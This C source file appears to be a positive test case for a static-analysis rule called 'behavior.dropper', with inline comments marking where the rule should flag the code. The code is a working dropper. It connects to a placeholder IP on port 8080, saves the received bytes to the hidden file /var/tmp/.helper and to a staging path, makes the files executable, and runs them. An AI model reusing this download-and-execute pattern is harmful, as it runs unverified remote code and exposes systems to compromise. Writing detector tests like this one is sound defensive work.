/*
 * behavior.dropper: the file's name is kept in file-scope settings that
 * the program never changes: a `static const char *` (the pointer itself
 * is not const) and a static record of strings. The downloader is given
 * the name, opens the file and hands it to a copy helper; main then makes
 * the same file executable and runs it. The look-alike,
 * safe_global_path_changed.c, changes its global name before running.
 */
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

struct update_settings {
    const char *host;
    const char *staging;
};

static const char *kHelper = "/var/tmp/.helper";
static struct update_settings g_settings = {"198.51.100.40", "/var/tmp/agent.new"};

static int dial(const char *ip)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(8080);
    inet_pton(AF_INET, ip, &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        close(s);
        return -1;
    }
    return s;
}

static void copy_all(int from, FILE *to)
{
    char buf[4096];
    ssize_t n;
    while ((n = recv(from, buf, sizeof buf, 0)) > 0)
        fwrite(buf, 1, (size_t)n, to);
}

static int fetch(const char *dest)
{
    int s = dial(g_settings.host);
    if (s < 0)
        return -1;
    FILE *f = fopen(dest, "wb");
    if (!f) {
        close(s);
        return -1;
    }
    copy_all(s, f);
    fclose(f);
    close(s);
    return 0;
}

int main(void)
{
    if (fetch(kHelper) == 0) {
        chmod(kHelper, 0755); // $ Alert[behavior.dropper]
        execl(kHelper, ".helper", (char *)NULL); // $ Alert[behavior.dropper]
    }
    if (fetch(g_settings.staging) == 0)
        execl(g_settings.staging, "agent", (char *)NULL); // $ Alert[behavior.dropper]
    return 1;
}
